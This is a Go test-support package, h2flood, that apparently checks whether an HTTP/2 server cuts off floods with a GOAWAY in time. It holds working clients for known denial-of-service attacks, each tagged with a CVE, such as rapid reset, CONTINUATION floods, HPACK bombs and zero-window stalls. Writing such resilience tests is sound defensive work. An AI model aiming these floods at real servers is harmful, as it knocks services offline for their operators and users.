// Package h2flood has clients that flood a server of HTTP/2, for the tests of the front
// and of the whole program.
package h2flood

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"net"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const (
	// Frames and Time are when a flood must have ended at the latest: that is said to a
	// client before it could have sent more, or been at it for longer.
	Frames = 2000
	Time   = 8 * time.Second
)

// Endless is the path of a resource that the server behind must answer with a body
// without an end.
const Endless = "/endless"

// Flood sends one round of a flood, and gives how many frames that were, 0 when it has
// nothing more to send.
type Flood func(c *Client, round int) (frames int)

// Kinds holds one client of each kind.
var Kinds = map[string]Flood{
	// CVE-2023-44487
	"rapid reset": func(c *Client, round int) int {
		c.frame(http2.FrameHeaders, http2.FlagHeadersEndHeaders|http2.FlagHeadersEndStream, stream(round), c.get())
		c.frame(http2.FrameRSTStream, 0, stream(round), []byte{0, 0, 0, 8})
		return 2
	},
	// CVE-2025-8671
	"made you reset": func(c *Client, round int) int {
		c.frame(http2.FrameHeaders, http2.FlagHeadersEndHeaders, stream(round), c.get())
		c.frame(http2.FrameWindowUpdate, 0, stream(round), []byte{0, 0, 0, 0})
		return 2
	},
	// CVE-2023-45288
	"continuation": func(c *Client, round int) int {
		return c.endless(round, bytes.Repeat([]byte{0x40, 1, 'a', 1, 'b'}, 20))
	},
	"empty continuation": func(c *Client, round int) int { return c.endless(round, nil) },
	// CVE-2019-9512, CVE-2019-9515, CVE-2019-9518
	"ping": func(c *Client, _ int) int {
		c.frame(http2.FramePing, 0, 0, make([]byte, 8))
		return 1
	},
	"settings": func(c *Client, _ int) int {
		c.frame(http2.FrameSettings, 0, 0, nil)
		return 1
	},
	"empty data": func(c *Client, round int) int {
		if round == 0 {
			c.frame(http2.FrameHeaders, http2.FlagHeadersEndHeaders, 1, c.block(":method", "POST", ":scheme", "http", ":authority", "a.test", ":path", "/"))
		}
		c.frame(http2.FrameData, 0, 1, nil)
		return 1
	},
	// CVE-2019-9513
	"priority": func(c *Client, _ int) int {
		c.frame(http2.FramePriority, 0, 1, []byte{0, 0, 0, 3, 7})
		return 1
	},
	"window update": func(c *Client, _ int) int {
		c.frame(http2.FrameWindowUpdate, 0, 0, []byte{0, 0, 0, 1})
		return 1
	},
	// CVE-2019-9511: an endless answer, byte by byte
	"window dribble": func(c *Client, round int) int {
		if round == 0 {
			c.frame(http2.FrameSettings, 0, 0, []byte{0, byte(http2.SettingInitialWindowSize), 0, 0, 0, 0})
			c.frame(http2.FrameHeaders, http2.FlagHeadersEndHeaders|http2.FlagHeadersEndStream, 1,
				c.block(":method", "GET", ":scheme", "http", ":authority", "a.test", ":path", Endless))
			return 2
		}
		c.frame(http2.FrameWindowUpdate, 0, 1, []byte{0, 0, 0, 1})
		<-c.data
		return 1
	},
	"unknown frames": func(c *Client, _ int) int {
		c.frame(0xbb, 0, 0, []byte("x"))
		return 1
	},
	// CVE-2016-6581: one value in the table, named thousands of times
	"HPACK bomb": func(c *Client, round int) int {
		block := bytes.Clone(c.get())
		if round == 0 {
			block = append(block, c.block("x", string(bytes.Repeat([]byte("x"), 4000)))...)
		}
		block = append(block, bytes.Repeat([]byte{0xbe}, 12000)...) // the table's newest
		c.frame(http2.FrameHeaders, http2.FlagHeadersEndHeaders|http2.FlagHeadersEndStream, stream(round), block)
		return 1
	},
	// CVE-2019-9517: answers that their client leaves no room for
	"100 streams at zero window": func(c *Client, round int) int {
		if round == 0 {
			c.frame(http2.FrameSettings, 0, 0, []byte{0, byte(http2.SettingInitialWindowSize), 0, 0, 0, 0})
		}
		if round >= 100 {
			return 0
		}
		c.frame(http2.FrameHeaders, http2.FlagHeadersEndHeaders|http2.FlagHeadersEndStream, stream(round), c.get())
		return 1
	},
}

func stream(round int) uint32 { return uint32(2*round + 1) } //nolint:gosec // floods are short.

// Client speaks HTTP/2 frame by frame.
type Client struct {
	framer *http2.Framer
	buf    bytes.Buffer
	enc    *hpack.Encoder
	data   chan struct{} // says that some came; closed at the end
}

// frame writes one that a well-behaved framer would not. The connection may end at any
// time.
func (c *Client) frame(kind http2.FrameType, flags http2.Flags, id uint32, payload []byte) {
	_ = c.framer.WriteRawFrame(kind, flags, id, payload) // its end is read.
}

// block encodes names, each with its value behind it.
func (c *Client) block(fields ...string) []byte {
	c.buf.Reset()
	for i := 0; i < len(fields); i += 2 {
		_ = c.enc.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]}) // memory takes all.
	}
	return c.buf.Bytes()
}

func (c *Client) get() []byte {
	return c.block(":method", "GET", ":scheme", "http", ":authority", "a.test", ":path", "/")
}

// endless adds to a header block that never ends.
func (c *Client) endless(round int, part []byte) int {
	if round == 0 {
		c.frame(http2.FrameHeaders, http2.FlagHeadersEndStream, 1, c.get())
		return 1
	}
	c.frame(http2.FrameContinuation, 0, 1, part)
	return 1
}

// Run floods a server over a connection, which it closes, and calls look again and again
// meanwhile. It gives the error code of the GOAWAY by which the server has ended the
// connection in time.
func Run(nc net.Conn, send Flood, look func(sent int)) (http2.ErrCode, error) {
	c := &Client{framer: http2.NewFramer(nc, nc), data: make(chan struct{}, 1)}
	c.enc = hpack.NewEncoder(&c.buf)
	began := time.Now()
	_ = nc.SetDeadline(began.Add(2 * Time)) // a server that takes nothing ends by that.
	_, _ = io.WriteString(nc, http2.ClientPreface)
	c.frame(http2.FrameSettings, 0, 0, nil)
	c.frame(http2.FrameSettings, http2.FlagSettingsAck, 0, nil)
	ended := make(chan end, 1)
	go func() {
		defer close(c.data)
		ended <- c.lastWord()
	}()
	defer func() { _ = nc.Close(); <-ended }()

	wait := time.NewTicker(50 * time.Millisecond)
	defer wait.Stop()
	for sent, round := 0, 0; ; round++ {
		// What is on the way when the end is said counts for nothing: only so much is sent
		// ahead.
		frames := 0
		if sent <= Frames {
			frames = send(c, round)
		}
		if sent += frames; frames == 0 {
			<-wait.C
		}
		if frames == 0 || round%100 == 0 {
			look(sent)
		}
		select {
		case e := <-ended:
			ended <- e // for the defer.
			return e.code, e.err
		default:
		}
		if frames == 0 && time.Since(began) > Time {
			return 0, fmt.Errorf("%d frames in %v, and no end", sent, Time)
		}
	}
}

type end struct {
	code http2.ErrCode
	err  error
}

// lastWord reads to the connection's end, before which a GOAWAY must come.
func (c *Client) lastWord() end {
	var away *http2.GoAwayFrame
	for {
		f, err := c.framer.ReadFrame()
		var timeout net.Error
		switch {
		case errors.As(err, &timeout) && timeout.Timeout(), err != nil && away == nil:
			return end{err: fmt.Errorf("no end by GOAWAY: %w", err)}
		case err != nil:
			return end{code: away.ErrCode}
		}
		switch f := f.(type) {
		case *http2.GoAwayFrame:
			away = f
		case *http2.DataFrame:
			select {
			case c.data <- struct{}{}:
			default:
			}
		}
	}
}
